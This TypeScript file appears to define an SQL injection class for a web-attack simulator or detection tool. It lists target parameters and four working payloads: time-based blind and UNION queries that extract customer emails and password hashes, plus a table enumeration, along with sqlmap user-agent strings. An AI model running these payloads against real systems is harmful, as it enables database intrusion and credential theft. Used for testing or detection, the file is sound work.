import { injection } from "./injection.ts";
import { SQLI } from "./payloads/sqli.ts";

export const injectionSqli = injection({
  class: "sqli",
  title: "SQL injection: logic, errors, unions, time",
  payloads: SQLI,
  points: ["search", "category", "sort", "oldItem", "productId", "login"],
  exploits: [
    {
      payload:
        "{w}' AND (SELECT {n} FROM (SELECT(SLEEP(5-(IF(ORD(MID((SELECT IFNULL(CAST(email AS NCHAR),0x20) FROM shop.customers LIMIT 0,1),1,1))>64,0,5)))))a)-- -",
      slower: 5_000,
    },
    {
      payload: "{w}' AND IF(SUBSTR((SELECT password_hash FROM customers LIMIT 1),{n},1)='a',SLEEP(5),0)-- -",
      slower: 5_000,
    },
    {
      payload:
        "-{n}' UNION ALL SELECT NULL,CONCAT(email,0x3a,password_hash),NULL,NULL,NULL FROM customers LIMIT 500 OFFSET {n}-- -",
      larger: 9,
    },
    {
      payload:
        "-{n}' UNION ALL SELECT NULL,GROUP_CONCAT(table_name),NULL,NULL,NULL FROM information_schema.tables WHERE table_schema=database()-- -",
      larger: 3,
    },
  ],
  tools: ["sqlmap/1.9.2#stable (https://sqlmap.org)", "sqlmap/1.8.11#stable (https://sqlmap.org)"],
});
